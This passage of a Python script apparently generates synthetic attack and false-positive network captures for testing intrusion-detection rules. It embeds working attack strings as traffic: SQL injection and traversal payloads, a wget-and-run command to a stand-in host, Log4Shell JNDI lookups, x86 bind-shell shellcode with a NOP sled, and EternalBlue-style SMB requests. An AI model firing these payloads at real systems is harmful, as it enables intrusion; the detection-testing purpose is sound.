    c.request(b"quit\n", think=4.0)
    c.respond(b"bye bye.\n", think=0.01)
    c.close(by_client=False)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def mstream_agents(out):
    """An mstream handler on the Internet drives agents planted on three inside hosts: it
    pings them ('ping' to 10498), they answer 'pong' to 6838, then it orders a stream flood
    ('stream/<target>:<secs>')."""
    rng = random.Random(3003)
    cap = Capture()
    handler = "198.51.100.66"
    agents = ["10.30.1.12", "10.30.1.19", "10.30.2.40"]
    t = ts("2000-05-02 01:10:44.000")
    for rnd in range(2):
        for i, a in enumerate(agents):
            udp(cap, t + i * 0.02, handler, 7983, a, 10498, b"ping", ttl=51,
                ident=rng.randrange(65536))
            udp(cap, t + i * 0.02 + 0.15, a, rng.randrange(1024, 5000), handler, 6838, b"pong",
                ident=rng.randrange(65536))
        t += 300
    for i, a in enumerate(agents):
        udp(cap, t + i * 0.02, handler, 7983, a, 10498, b"stream/192.0.2.80:300", ttl=51,
            ident=rng.randrange(65536))
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def tfn_icmp(out):
    """Tribe Flood Network control over ICMP echo replies, early 2000: the TFN client on the
    Internet commands a TFN server on a compromised inside host (icmp_id 456 'BE',
    51201 'LE'), tfn2k's id-0 padding, and the server's 'shell bound to port' reply. The
    site's ipchains gateway logged the ICMP it let in and out."""
    rng = random.Random(3004)
    cap = Capture()
    client, srv = "198.51.100.131", "10.40.0.17"
    t = ts("2000-02-10 03:12:40.000")
    fw = []
    sent = []
    for i, (icid, data) in enumerate(((456, b"\x00" * 8 + b"203.0.113.99"),
                                      (51201, b"\x00" * 8 + b"6667"),
                                      (456, b"\x00" * 8 + b"192.0.2.80"),
                                      (0, b"AAAAAAAAAAAAAAAA" + bytes(rng.randrange(256) for _ in range(24))),
                                      (0, b"AAAAAAAAAAAAAAAA" + bytes(rng.randrange(256) for _ in range(24))))):
        p = icmp(cap, t, client, srv, ICMP(type=0, id=icid, seq=0) / Raw(data), ttl=46,
                 ident=rng.randrange(65536))
        sent.append((t, p, "input", "eth0"))
        t += rng.uniform(20, 90)
    p = icmp(cap, t, srv, client, ICMP(type=0, id=123, seq=0) / Raw(b"shell bound to port 6667\n"),
             ident=rng.randrange(65536))
    sent.append((t, p, "output", "eth0"))
    for when, p, chain, iface in sent:
        fw.append((when, ipchains_line(when, "gateway", p, chain=chain, iface=iface, rule=4)))
    cap.write(os.path.join(out, "traffic.pcap"))
    write_lines(os.path.join(out, "ipchains.log"), fw)


WP_PAGE = b"<!DOCTYPE html><html><head><title>Blog</title></head><body>%s</body></html>\n"


@scenario
def wordpress_sqli(out):
    """sqlmap-style UNION injection in WordPress's `paged` parameter (CVE-2006-3389 era) from
    an Internet host against the site's blog (203.0.113.80); the server answers each request,
    some with MySQL errors and one with the dumped user table."""
    rng = random.Random(3005)
    cap = Capture()
    att, srv = "198.51.100.23", "203.0.113.80"
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"
    t = ts("2024-10-03 11:20:15.000")
    for q, body, status in (
            ("1'", b"WordPress database error: You have an error in your SQL syntax", "500 Internal Server Error"),
            ("1'%20AND%201=1--%20-", b"<p>Page 1</p>", "200 OK"),
            ("1'%20ORDER%20BY%2010--%20-", b"Unknown column '10' in 'order clause'", "500 Internal Server Error"),
            ("1'%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-", b"The used SELECT statements have a different number of columns", "500 Internal Server Error"),
            ("-1'%20UNION%20ALL%20SELECT%201,user_login,user_pass,4,5,6,7%20FROM%20wp_users--%20-",
             b"<p>admin $P$BxvD1pX3dQ7yQhP3t3Rz0ZlE7eWnOk.</p>", "200 OK"),
            ("-1'%20UNION%20ALL%20SELECT%201,@@version,user(),4,5,6,7--%20-", b"<p>5.0.51a-24 wp@localhost</p>", "200 OK")):
        c = Tcp(cap, rng, att, ephemeral(rng, 32768, 60999), srv, 80, t, ttl_c=51, rtt=0.060).open()
        c.request(http_get("blog.example.org", "/index.php?paged=" + q, ua))
        c.respond(http_response(c.t, WP_PAGE % body, status=status, server="Apache/2.2.8 (Ubuntu)"))
        c.close(by_client=False)
        t = c.t + rng.uniform(1.5, 6)
    cap.write(os.path.join(out, "traffic.pcap"))


PASSWD = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" \
    b"bin:x:2:2:bin:/bin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"


@scenario
def web_traversal(out):
    """Directory traversal against a vulnerable download script on the site's web server
    (203.0.113.81): the attacker walks up with ../ until /etc/passwd comes back, then reads
    other files. Every request is answered."""
    rng = random.Random(3006)
    cap = Capture()
    att, srv = "192.0.2.201", "203.0.113.81"
    t = ts("2024-10-07 16:02:51.000")
    for depth, target, ok in ((1, "etc/passwd", False), (2, "etc/passwd", False),
                              (4, "etc/passwd", True), (4, "etc/hostname", True),
                              (4, "etc/shadow", False), (6, "proc/self/environ", True)):
        path = "/download.php?file=" + "../" * depth + target
        c = Tcp(cap, rng, att, ephemeral(rng, 32768, 60999), srv, 80, t, ttl_c=53, rtt=0.07).open()
        c.request(http_get("files.example.org", path, "python-requests/2.31.0"))
        if ok:
            body = PASSWD if target == "etc/passwd" else b"web02\n" if "hostname" in target \
                else b"PATH=/usr/local/sbin:/usr/local/bin\x00APACHE_RUN_USER=www-data\x00"
            c.respond(http_response(c.t, body, ctype="application/octet-stream"))
        else:
            c.respond(http_response(c.t, "<h1>File not found</h1>", status="404 Not Found"))
        c.close(by_client=False)
        t = c.t + rng.uniform(0.5, 3)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def web_cmd_injection(out):
    """OS command injection in a router-style CGI on the site's DMZ host: the attacker runs
    id, uname and then wget|sh to fetch a bot; the server answers with the commands' output."""
    rng = random.Random(3007)
    cap = Capture()
    att, srv = "198.51.100.188", "203.0.113.90"
    t = ts("2024-11-12 05:44:09.000")
    for cmd, out_text in ((";id", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
                          (";uname%20-a", "Linux dmz-cam 4.9.37 #1 SMP armv7l GNU/Linux\n"),
                          (";cd%20/tmp;wget%20http://192.0.2.66/bins/x86%20-O%20x;chmod%20777%20x;./x", ""),
                          (";cat%20/etc/passwd", PASSWD.decode())):
        c = Tcp(cap, rng, att, ephemeral(rng, 32768, 60999), srv, 80, t, ttl_c=50, rtt=0.09).open()
        c.request(http_get("203.0.113.90", "/cgi-bin/ping.cgi?host=127.0.0.1" + cmd,
                           "Mozilla/5.0 (compatible; Hello, World)"))
        c.respond(http_response(c.t, "<pre>PING 127.0.0.1: 56 data bytes\n%s</pre>" % out_text,
                                server="lighttpd/1.4.35"))
        c.close(by_client=False)
        t = c.t + rng.uniform(2, 8)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def log4shell_ipv6(out):
    """Log4Shell (CVE-2021-44228) over IPv6: an Internet host sends ${jndi:ldap://...} in the
    User-Agent, X-Api-Version and a query parameter to the site's web server on its IPv6
    address (2001:db8:10::80); the server answers each request."""
    rng = random.Random(3008)
    cap = Capture()
    att, srv = "2001:db8:ffee:4::15", "2001:db8:10::80"
    t = ts("2021-12-12 19:33:40.000")
    for i, where in enumerate(("ua", "hdr", "uri", "ua")):
        payload = "${jndi:ldap://198.51.100.45:1389/Exploit%d}" % i
        ua = payload if where == "ua" else "Mozilla/5.0 (X11; Linux x86_64)"
        extra = ["X-Api-Version: %s" % payload] if where == "hdr" else []
        path = "/?q=%s" % payload.replace("${", "$%7B").replace("}", "%7D") if where == "uri" else "/"
        c = Tcp(cap, rng, att, ephemeral(rng, 32768, 60999), srv, 80, t, ttl_c=54, rtt=0.05,
                mss=1440).open()
        c.request(http_get("www.example.org", path, ua, extra))
        c.respond(http_response(c.t, "<html><body>Welcome</body></html>",
                                server="Apache-Coyote/1.1"))
        c.close(by_client=False)
        t = c.t + rng.uniform(30, 90)
    cap.write(os.path.join(out, "traffic.pcap"))


def x86_shellcode(rng):
    # execve("/bin//sh") stub as public bind-shell samples carry it
    return b"\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x53\x89\xe1" \
        b"\x99\xb0\x0b\xcd\x80"


@scenario
def imap_nop_sled(out):
    """A remote overflow against the inside mail server's IMAP (10.0.2.25:143): the LOGIN
    argument is a NOP sled, shellcode and a return address. The server answered the greeting
    and the capability query before the exploit; the attacker tries twice."""
    rng = random.Random(3009)
    cap = Capture()
    att, srv = "198.51.100.140", "10.0.2.25"
    t = ts("2024-03-19 23:05:12.000")
    for i in range(2):
        c = Tcp(cap, rng, att, ephemeral(rng, 32768, 60999), srv, 143, t, ttl_c=49, rtt=0.11).open()
        c.respond(b"* OK [CAPABILITY IMAP4rev1 LITERAL+ SASL-IR LOGIN-REFERRALS] mail ready\r\n")
        c.request(b"a001 CAPABILITY\r\n", think=0.2)
        c.respond(b"* CAPABILITY IMAP4rev1 LITERAL+ SASL-IR AUTH=PLAIN\r\na001 OK done\r\n")
        sled = b"\x90" * 600 + x86_shellcode(rng) + struct.pack("<I", 0xbffff4a0 - 0x40 * i) * 40
        c.request(b"a002 LOGIN " + sled + b" x\r\n", think=0.3)
        c.reset(by_client=False, dt=0.4)
        t = c.t + 25
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def port_scan_sql(out):
    """A scanner on the Internet sweeps the site's DMZ (203.0.113.0/24) for database ports
    (1433, 3306, 5432, 1521) with SYNs, one port at a time; closed ports answer RST, two hosts
    answer SYN-ACK. The ASA in front logs the probes to ports its ACL denies."""
    rng = random.Random(3010)
    cap = Capture()
    att = "192.0.2.77"
    t = ts("2024-02-22 13:01:00.000")
    fw = []
    for port in (3306, 1433, 5432, 1521):
        for h in range(10, 22):
            dst = "203.0.113.%d" % h
            sp = ephemeral(rng, 40000, 65000)
            c = Tcp(cap, rng, att, sp, dst, port, t, ttl_c=44, rtt=0.03, win_c=1024)
            if (h, port) in ((12, 3306), (15, 5432)):
                c._pkt(True, "S", opts=[("MSS", 1460)])
                c.ack[False] = c.seq[True]
                c._pkt(False, "SA", dt=0.015, opts=[("MSS", 1460)])
                c._pkt(True, "R", dt=0.015)
            else:
                c.refused()
            t += rng.uniform(0.4, 1.4)
        # the probes to the same port on the hosts the ACL shields never reach the sensor
        for h in range(30, 36):
            fw.append((t, asa_line(t, 4, "106023: Deny tcp src outside:%s/%d dst "
                                   "inside:203.0.113.%d/%d by access-group \"outside_access_in\" "
                                   "[0x5ae1c3d2, 0x0]" % (att, ephemeral(rng, 40000, 65000), h,
                                                          port))))
            t += rng.uniform(0.3, 0.9)
        t += 20
    cap.write(os.path.join(out, "traffic.pcap"))
    write_lines(os.path.join(out, "asa.log"), fw)


def http_post(host, path, ua, body, ctype="application/x-www-form-urlencoded"):
    head = ["POST %s HTTP/1.1" % path, "Host: %s" % host, "User-Agent: %s" % ua, "Accept: */*",
            "Content-Type: %s" % ctype, "Content-Length: %d" % len(body), "Connection: close",
            "", ""]
    return "\r\n".join(head).encode() + body


@scenario
def magania_c2(out):
    """An infected inside workstation (10.50.3.44) beacons to its C2 every ~5 minutes with the
    Magania/PinkStats pattern (User-Agent 'Google page', /<path>.asp?mac=...&ver=...); the C2
    server answers each beacon."""
    rng = random.Random(3011)
    cap = Capture()
    bot, c2 = "10.50.3.44", "198.51.100.99"
    mac = "00-1E-4F-%02X-%02X-%02X" % (rng.randrange(256), rng.randrange(256), rng.randrange(256))
    t = ts("2024-01-16 09:00:31.000")
    for i in range(8):
        c = Tcp(cap, rng, bot, ephemeral(rng), c2, 80, t, ttl_s=50, rtt=0.12).open()
        req = ("GET /pinkstats/count.asp?mac=%s&ver=1.%d HTTP/1.1\r\nUser-Agent: Google page\r\n"
               "Host: stat.update-ms.example\r\nCache-Control: no-cache\r\n\r\n" % (mac, 4)).encode()
        c.request(req)
        c.respond(http_response(c.t, "OK" if i % 3 else "cmd=sleep:300",
                                ctype="text/html", server="Microsoft-IIS/6.0"))
        c.close(by_client=False)
        t += 300 + rng.uniform(-10, 10)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def vpnoverdns_tunnel(out):
    """A laptop (10.70.1.33) runs the VPN-over-DNS client: every session it resolves the
    service's tun.vpnoverdns.com entry, then moves data in long TXT queries under it; the
    site's resolver (10.70.0.53) forwards and answers. Nobody authorised it."""
    rng = random.Random(3012)
    cap = Capture()
    host, resolver = "10.70.1.33", "10.70.0.53"
    t = ts("2024-06-21 22:10:05.000")
    for s in range(5):
        t = dns_lookup(cap, rng, t, host, resolver, "tun.vpnoverdns.com", ["198.51.100.53"], ttl=0)
        for i in range(12):
            label = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(60))
            label2 = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(40))
            name = "%s.%s.%d.tun.vpnoverdns.com" % (label, label2, i)
            txid = rng.randrange(65536)
            sp = ephemeral(rng)
            udp(cap, t, host, sp, resolver, 53, dns_query(txid, name, qtype=16),
                ident=rng.randrange(65536))
            txt = bytes(rng.randrange(33, 126) for _ in range(180))
            ans = struct.pack(">HHHHHH", txid, 0x8180, 1, 1, 0, 0) + dns_name(name) + \
                struct.pack(">HH", 16, 1) + b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 0, len(txt) + 1) + \
                bytes([len(txt)]) + txt
            udp(cap, t + rng.uniform(0.03, 0.09), resolver, 53, host, sp, ans, ident=rng.randrange(65536))
            t += rng.uniform(0.2, 1.5)
        t += rng.uniform(120, 400)
    cap.write(os.path.join(out, "traffic.pcap"))


def netbios(smb):
    return struct.pack(">I", len(smb)) + smb


def smb1_header(cmd, mid, tid=0, uid=0, flags2=0x0003, reply=False, status=0):
    return b"\xffSMB" + bytes([cmd]) + struct.pack("<I", status) + \
        bytes([0x98 if reply else 0x18]) + struct.pack("<H", flags2) + b"\x00" * 12 + \
        struct.pack("<HHHH", tid, 0xFEFF, uid, mid)


@scenario
def eternalblue_smb(out):
    """An Internet host runs an EternalBlue-style exploit (MS17-010) against the site's SMB
    server exposed on 203.0.113.45:445: negotiate, null session, tree connect to IPC$, then
    the oversized Trans2 request whose DataCount exceeds TotalDataCount. The server answers
    each step. The ASA in front logged the connections it built."""
    rng = random.Random(3013)
    cap = Capture()
    att, srv = "198.51.100.45", "203.0.113.45"
    t = ts("2024-05-13 02:31:18.000")
    fw = []
    for i in range(4):
        sp = ephemeral(rng, 40000, 65000)
        c = Tcp(cap, rng, att, sp, srv, 445, t, ttl_c=112, rtt=0.05, win_c=8192).open()
        fw.append((t, asa_line(t, 6, "302013: Built inbound TCP connection %d for outside:%s/%d "
                               "(%s/%d) to inside:%s/445 (%s/445)" % (90412000 + i * 17, att, sp,
                                                                      att, sp, srv, srv))))
        neg = smb1_header(0x72, 1) + b"\x00" + struct.pack("<H", 12) + b"\x02NT LM 0.12\x00"
        c.request(netbios(neg), think=0.01)
        # NT LM 0.12 negotiate response, no extended security: 8-byte challenge, domain name
        words = struct.pack("<HBHHIIIIQhB", 0, 0x03, 50, 1, 16644, 65536, 0,
                            0x0000e3fd, 0x01DAA4C31B2A8000, 0, 8)
        tail = bytes(rng.randrange(256) for _ in range(8)) + b"WORKGROUP\x00"
        c.respond(netbios(smb1_header(0x72, 1, reply=True) + b"\x11" + words +
                          struct.pack("<H", len(tail)) + tail))
        setup = struct.pack("<BBHHHHIHHII", 0xff, 0, 0, 16644, 50, 0, 0, 1, 0, 0, 0x000000d4)
        sbytes = b"\x00" + b"\x00" + b"Windows 2000 2195\x00Windows 2000 5.0\x00"
        c.request(netbios(smb1_header(0x73, 2) + b"\x0d" + setup + struct.pack("<H", len(sbytes)) +
                          sbytes), think=0.01)
        rbytes = b"Windows Server 2008 R2 Standard 7601 Service Pack 1\x00Windows Server 2008 R2 " \
            b"Standard 6.1\x00WORKGROUP\x00"
        c.respond(netbios(smb1_header(0x73, 2, uid=2048, reply=True) + b"\x03\xff\x00" +
                          struct.pack("<HH", 0, 1) + struct.pack("<H", len(rbytes)) + rbytes))
        path = b"\x00\\\\203.0.113.45\\IPC$\x00?????\x00"
        c.request(netbios(smb1_header(0x75, 3, uid=2048) + b"\x04\xff\x00\x00\x00\x00\x00\x01\x00" +
                          struct.pack("<H", len(path)) + path), think=0.01)
        tb = b"IPC\x00\x00"
        c.respond(netbios(smb1_header(0x75, 3, tid=2048, uid=2048, reply=True) + b"\x07\xff\x00" +
                          struct.pack("<HHII", 0, 1, 0x1f01ff, 0) + struct.pack("<H", len(tb)) + tb))
        # Trans2 (0x33): WordCount 15, TotalParameterCount, TotalDataCount 0 ... DataCount big
        words = struct.pack("<HHHHBBHIHHHHHBB", 0x0c, 0x0000, 1, 0, 0, 0, 0, 0, 0,
                            0x0c, 0x42, 0x1000, 0x4e, 1, 0) + struct.pack("<H", 0x000e)
        trans2 = smb1_header(0x33, 64 + i, tid=2048, uid=2048) + b"\x0f" + words + \
            struct.pack("<H", 0x1000 + 13) + b"\x00" * 13 + bytes(rng.randrange(256) for _ in range(0x1000))
        c.request(netbios(trans2), think=0.02)
        # STATUS_INVALID_PARAMETER, no words or bytes
        c.respond(netbios(smb1_header(0x33, 64 + i, tid=2048, uid=2048, reply=True,
                                      status=0xC000000D) + b"\x00\x00\x00"), think=0.01)
        c.close(by_client=True)
        t = c.t + rng.uniform(3, 9)
    cap.write(os.path.join(out, "traffic.pcap"))
    write_lines(os.path.join(out, "asa.log"), fw)


@scenario
def icmp_flood(out):
    """A ping flood of full-size echo requests from three Internet hosts at the site's public
    DNS server (203.0.113.53), 1472 data bytes each, 8 per second per source for three
    seconds; the server replies to the first ones, then rate-limits. The capture is the first
    half second the sensor's ring buffer kept."""
    rng = random.Random(3014)
    cap = Capture()
    dst = "203.0.113.53"
    t0 = ts("2024-08-30 17:45:02.000")
    for si, src in enumerate(("198.51.100.201", "198.51.100.202", "192.0.2.203")):
        icid = rng.randrange(65536)
        for n in range(4):
            t = t0 + si * 0.013 + n * 0.125
            data = bytes((i + n) & 0xFF for i in range(1472))
            icmp(cap, t, src, dst, ICMP(type=8, id=icid, seq=n) / Raw(data), ttl=52,
                 ident=rng.randrange(65536))
            if n < 2:
                icmp(cap, t + 0.0004, dst, src, ICMP(type=0, id=icid, seq=n) / Raw(data),
                     ident=rng.randrange(65536))
    cap.write(os.path.join(out, "traffic.pcap"))


# ---- false positives ------------------------------------------------------------------------

DIR_TUTORIAL = b"""<html><head><title>Windows command line basics: DIR</title></head><body>
<h1>Listing a folder with DIR</h1><p>Open a command prompt. You will see:</p><pre>
Microsoft Windows XP [Version 5.1.2600]
(C) Copyright 1985-2001 Microsoft Corp.

C:\\Documents and Settings\\student&gt;dir
 Volume in drive C has no label.
 Volume Serial Number is 3C2A-91F0

 Directory of C:\\Documents and Settings\\student

09/14/2004  10:02 AM    &lt;DIR&gt;          .
09/14/2004  10:02 AM    &lt;DIR&gt;          ..
09/14/2004  10:05 AM             1,024 notes.txt
</pre><p>Each line lists one file. Try <code>dir /w</code> next.</p></body></html>
"""


@scenario
def dir_tutorial_page(out):
    """The site's public course pages (203.0.113.70) include a tutorial on the Windows DIR
    command whose sample console output holds the XP banner and 'Volume Serial Number'.
    Students on the Internet read it; two 2004-era attack-response rules fire on the page."""
    rng = random.Random(4001)
    cap = Capture()
    srv = "203.0.113.70"
    t = ts("2024-09-24 10:02:00.000")
    for s in ("198.51.100.%d" % n for n in (12, 48, 93, 160, 211)):
        c = Tcp(cap, rng, s, ephemeral(rng), srv, 80, t, ttl_c=113, rtt=0.04).open()
        c.request(http_get("courses.example.edu", "/intro/windows-cli/dir.html", EDGE_UA))
        c.respond(http_response(c.t, DIR_TUTORIAL))
        c.close(by_client=True, dt=3)
        t = c.t + rng.uniform(60, 900)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def docs_site_passwd(out):
    """Visitors of the site's public Linux documentation (203.0.113.71) open the page about the
    /etc/passwd file format and the relative-link pages under ../; the GPL 'WEB-MISC
    /etc/passwd' and 'http directory traversal' rules fire on the URLs. The server returns
    HTML articles, never the file."""
    rng = random.Random(4002)
    cap = Capture()
    srv = "203.0.113.71"
    t = ts("2024-04-02 14:20:00.000")
    pages = ["/manual/files/etc/passwd.html", "/manual/files/etc/passwd.html",
             "/search?q=%2Fetc%2Fpasswd", "/manual/files/etc/passwd.html",
             "/wiki/index.php?title=Relative_paths&example=../images/logo.png"]
    for i, s in enumerate("198.51.100.%d" % n for n in (21, 64, 87, 130, 175)):
        path = pages[i]
        c = Tcp(cap, rng, s, ephemeral(rng), srv, 80, t, ttl_c=57, rtt=0.05).open()
        c.request(http_get("docs.example.org", path, FIREFOX_UA))
        c.respond(http_response(c.t, "<html><body><h1>The /etc/passwd file</h1><p>Each line "
                                     "holds seven fields separated by colons...</p></body></html>"))
        c.close(by_client=True, dt=2)
        t = c.t + rng.uniform(100, 700)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def uptime_monitor_ping(out):
    """An external uptime-monitoring service pings two of the site's public hosts every minute
    with zero-length ICMP echo requests (as many monitors do) and gets replies; the 'ICMP PING
    NMAP' rule (dsize 0) fires on every probe."""
    rng = random.Random(4003)
    cap = Capture()
    mon = "198.51.100.250"
    t0 = ts("2024-03-03 00:00:07.000")
    for k in range(10):
        for hi, h in enumerate(("203.0.113.10", "203.0.113.11")):
            t = t0 + k * 60 + hi * 0.5 + rng.uniform(0, 0.05)
            icmp(cap, t, mon, h, ICMP(type=8, id=0x4d4f + hi, seq=k), ttl=55,
                 ident=rng.randrange(65536))
            icmp(cap, t + 0.018, h, mon, ICMP(type=0, id=0x4d4f + hi, seq=k),
                 ident=rng.randrange(65536))
    cap.write(os.path.join(out, "traffic.pcap"))


def fastq(rng, reads):
    out = []
    for i in range(reads):
        seq = "".join(rng.choice("ACGT") for _ in range(100))
        # Illumina 1.8+ qualities: long runs of 'C' (Q34), 'F', 'J' at the start of reads
        qual = "CCCCCCCCCCCCCCCCCCCCCCCCCCCFFFFFHHHHHJJJJJJJJJJJJIJJJJJJJJJJJJJJJJJJJJJIJJJHHHHHFFFDDDDDDDDDDDDDDDD"
        qual = qual[:100]
        out.append("@SRR2584863.%d %d/1\n%s\n+\n%s\n" % (i + 1, i + 1, seq, qual))
    return "".join(out).encode()


@scenario
def fastq_ftp_download(out):
    """A researcher downloads a FASTQ sequencing file by passive FTP from a public archive;
    the quality strings hold runs of 'C' (Phred 34), which the 'SHELLCODE x86 inc ebx NOOP'
    rule (24 'C's from any port but 80) reads as a NOP sled."""
    rng = random.Random(4004)
    cap = Capture()
    cli, srv = "10.80.4.21", "192.0.2.190"
    t = ts("2024-11-04 15:30:10.000")
    ctl = Tcp(cap, rng, cli, ephemeral(rng), srv, 21, t, ttl_s=54, rtt=0.03).open()
    for line, reply in ((None, b"220 (vsFTPd 3.0.3)\r\n"), (b"USER anonymous\r\n", b"331 Please specify the password.\r\n"),
                        (b"PASS anonymous@\r\n", b"230 Login successful.\r\n"),
                        (b"TYPE I\r\n", b"200 Switching to Binary mode.\r\n"),
                        (b"PASV\r\n", b"227 Entering Passive Mode (192,0,2,190,156,64).\r\n")):
        if line:
            ctl.request(line, think=0.05)
        ctl.respond(reply)
    ctl.request(b"RETR /vol1/fastq/SRR258/003/SRR2584863/SRR2584863_1.fastq\r\n", think=0.05)
    data = Tcp(cap, rng, cli, ephemeral(rng), srv, 40000, ctl.t + 0.01, ttl_s=54, rtt=0.03).open()
    ctl.respond(b"150 Opening BINARY mode data connection.\r\n")
    data.respond(fastq(rng, 24), think=0.01)
    data.close(by_client=False)
    ctl.respond(b"226 Transfer complete.\r\n")
    ctl.request(b"QUIT\r\n", think=0.1)
    ctl.respond(b"221 Goodbye.\r\n")
    ctl.close(by_client=False)
    cap.write(os.path.join(out, "traffic.pcap"))


def elf_with_nop_padding(rng, size):
    """A 32-bit ELF executable as old GCC/GNU as laid out text: functions padded to 16-byte
    boundaries with 0x90, and some 32-byte aligned hot loops with longer 0x90 runs."""
    out = bytearray(b"\x7fELF\x01\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 3, 1) + bytes(36))
    while len(out) < size:
        fn = bytes(rng.randrange(256) for _ in range(rng.randrange(40, 180))) + b"\xc3"
        out += fn
        pad = (-len(out)) % 16
        if rng.random() < 0.45:
            pad += 16
        out += b"\x90" * pad
    return bytes(out[:size])


@scenario
def elf_rsync_mirror(out):
    """Two build machines pull a 32-bit tool binary from a vendor's rsync mirror (873); the
    text segment's 0x90 alignment padding matches 'SHELLCODE x86 NOOP' (fourteen 0x90 within
    the first 128 bytes of a segment, from any port but 80)."""
    rng = random.Random(4005)
    cap = Capture()
    srv = "192.0.2.140"
    blob = elf_with_nop_padding(rng, 9000)
    t = ts("2024-12-02 06:15:00.000")
    for cli in ("10.90.0.31", "10.90.0.32"):
        c = Tcp(cap, rng, cli, ephemeral(rng), srv, 873, t, ttl_s=53, rtt=0.02).open()
        c.respond(b"@RSYNCD: 31.0 sha512 sha256 sha1 md5 md4\n", think=0.002)
        c.request(b"@RSYNCD: 31.0 md5 md4\n", think=0.001)
        c.request(b"dist\n", think=0.001)
        c.respond(b"@RSYNCD: OK\n")
        c.request(b"--server\x00--sender\x00-logDtpre.iLsfxCIvu\x00.\x00dist/i386/flashtool-1.4.2\x00\x00",
                  think=0.001)
        c.respond(struct.pack("<I", 0x07000000 | 4) + struct.pack("<I", rng.getrandbits(32)))
        c.respond(blob, think=0.01)
        c.close(by_client=False)
        t = c.t + 400
    cap.write(os.path.join(out, "traffic.pcap"))


# ---- benign triggers ------------------------------------------------------------------------

SSDP_ALL = ("M-SEARCH * HTTP/1.1\r\nHOST: %s:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\n"
            "ST: ssdp:all\r\nUSER-AGENT: Sonos/79.1 UPnP/1.0 Sonos-Controller\r\n\r\n")


@scenario
def ssdp_discovery(out):
    """The office's media controller (192.168.50.20) discovers UPnP devices: M-SEARCH
    ssdp:all to 239.255.255.250 and, for the speakers it already knows, unicast to each;
    devices answer and NOTIFY alive. The 'SSDP amplification scan' rule counts the unicast
    searches."""
    rng = random.Random(5001)
    cap = Capture()
    ctl = "192.168.50.20"
    devices = ["192.168.50.31", "192.168.50.32", "192.168.50.33"]
    t = ts("2024-02-14 09:00:03.000")
    for rnd in range(6):
        sp = ephemeral(rng)
        for rep in range(2):
            udp(cap, t + rep * 0.5, ctl, sp, "239.255.255.250", 1900,
                (SSDP_ALL % "239.255.255.250").encode(), ttl=4, ident=rng.randrange(65536))
        for d in devices:
            t += 0.05
            udp(cap, t, ctl, sp, d, 1900, (SSDP_ALL % d).encode(), ident=rng.randrange(65536))
            udp(cap, t + 0.02, d, 1900, ctl, sp,
                ("HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age = 1800\r\nEXT:\r\nLOCATION: "
                 "http://%s:1400/xml/device_description.xml\r\nSERVER: Linux UPnP/1.0 Sonos/79.1\r\n"
                 "ST: upnp:rootdevice\r\nUSN: uuid:RINCON_%012X01400::upnp:rootdevice\r\n\r\n"
                 % (d, rng.getrandbits(48))).encode(), ident=rng.randrange(65536))
        for d in devices:
            udp(cap, t + 1, d, 1900, "239.255.255.250", 1900,
                ("NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age = 1800\r\n"
                 "LOCATION: http://%s:1400/xml/device_description.xml\r\nNT: upnp:rootdevice\r\n"
                 "NTS: ssdp:alive\r\nSERVER: Linux UPnP/1.0 Sonos/79.1\r\n\r\n" % d).encode(),
                ttl=4, ident=rng.randrange(65536))
        t += 180 + rng.uniform(0, 5)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def script_user_agents(out):
    """Routine automation: a backup script on an inside host uploads with curl, a monitoring
    job polls a vendor API with Python-urllib, and a partner's integration (python-requests)
    calls the site's public API. POLICY/INFO rules name the user agents."""
    rng = random.Random(5002)
    cap = Capture()
    t = ts("2024-07-01 01:00:00.000")
    jobs = [("10.11.0.40", "198.51.100.170", "backup.vendor.example", "/v1/upload", "curl/7.88.1", True)] * 4 + \
        [("10.11.0.41", "198.51.100.171", "status.vendor.example", "/api/health", "Python-urllib/3.11", False)] * 4 + \
        [("198.51.100.172", "203.0.113.60", "api.example.org", "/v2/orders?since=2024-06-30", "python-requests/2.31.0", False)] * 4
    for k, (cli, srv, host, path, ua, post) in enumerate(jobs):
        c = Tcp(cap, rng, cli, ephemeral(rng), srv, 80, t + k * 300 + rng.uniform(0, 3),
                ttl_c=64 if is_home(cli) else 55, ttl_s=64 if is_home(srv) else 55, rtt=0.03).open()
        if post:
            c.request(http_post(host, path, ua, b"archive=nightly-%d.tar.gz&size=1048576" % k))
        else:
            c.request(http_get(host, path, ua))
        c.respond(http_response(c.t, '{"status":"ok"}', ctype="application/json", server="nginx"))
        c.close(by_client=False)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def nikto_authorised(out):
    """The site's contracted penetration tester runs Nikto from its agreed address
    (198.51.100.150) against the public web server (203.0.113.85) during the agreed window;
    the server answers every probe, mostly 404."""
    rng = random.Random(5003)
    cap = Capture()
    att, srv = "198.51.100.150", "203.0.113.85"
    ua = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)"
    t = ts("2024-10-15 10:00:00.000")
    paths = ["/", "/robots.txt", "/admin/", "/phpinfo.php", "/.git/HEAD", "/server-status",
             "/cgi-bin/test.cgi", "/backup.zip", "/wp-login.php", "/config.php.bak",
             "/icons/README", "/manager/html", "/.env", "/test/", "/login.jsp",
